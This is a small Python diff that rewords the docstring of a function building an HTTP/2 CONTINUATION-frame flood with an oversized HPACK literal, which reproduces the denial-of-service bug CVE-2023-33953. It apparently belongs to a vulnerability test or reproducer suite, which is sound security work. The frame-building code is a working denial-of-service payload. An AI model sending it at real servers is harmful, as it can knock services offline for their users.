@@ -127,7 +127,7 @@ def empty_continuation_flood(address: str) -> list[Heard]:
 
 
 def one_endless_field(address: str) -> list[Heard]:
-    """CVE-2023-33953: a literal field whose value is declared as 256 MiB, sent in CONTINUATION frames."""
+    """CVE-2023-33953: a literal whose length is told as megabytes, in CONTINUATION frames."""
     start = CALL + b"\x00\x01x\x7f" + b"\x81\xff\xff\x7f"
     piece = frame(CONTINUATION, 0, 1, b"y" * 16384)
     return [flood(address, piece, 64 * MIB, frame(HEADERS, 0, 1, start))]
